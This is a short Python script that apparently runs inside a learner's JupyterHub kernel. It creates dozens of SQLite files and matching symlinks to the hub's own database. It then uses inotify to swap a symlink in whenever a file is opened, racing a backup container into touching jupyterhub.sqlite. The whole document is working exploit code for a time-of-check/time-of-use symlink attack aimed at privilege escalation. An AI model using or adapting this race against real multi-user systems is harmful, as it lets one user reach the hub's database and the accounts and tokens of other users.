# Runs in the learner's kernel (as her): makes N small SQLite files and, the
# moment anyone opens one (inotify IN_OPEN), renames a symlink over it that
# points at the hub's database as the backup container mounts it.
import ctypes, os, sqlite3, struct, sys
home = os.path.expanduser("~")
race = os.path.join(home, "race"); os.makedirs(race, exist_ok=True)
TARGET = sys.argv[1] if len(sys.argv) > 1 else "/volumes/hub-data/jupyterhub.sqlite"
N = 60
for i in range(N):
    p = os.path.join(race, f"f{i:03}.db")
    if not os.path.lexists(p):
        c = sqlite3.connect(p); c.execute("create table mine(x)"); c.execute("insert into mine values ('her own data')"); c.commit(); c.close()
    s = os.path.join(race, f".s{i:03}")
    if not os.path.lexists(s):
        os.symlink(TARGET, s)
libc = ctypes.CDLL(None, use_errno=True)
fd = libc.inotify_init()
IN_OPEN = 0x20
libc.inotify_add_watch(fd, race.encode(), IN_OPEN)
log = open(os.path.join(home, "race.log"), "a", buffering=1)
log.write("watching\n")
while True:
    buf = os.read(fd, 65536)
    off = 0
    while off < len(buf):
        wd, mask, cookie, ln = struct.unpack_from("iIII", buf, off)
        name = buf[off + 16: off + 16 + ln].rstrip(b"\0").decode()
        off += 16 + ln
        if name.startswith("f") and name.endswith(".db"):
            s = os.path.join(race, "." + "s" + name[1:4])
            try:
                os.rename(s, os.path.join(race, name))
                log.write(f"swapped {name}\n")
            except OSError:
                pass
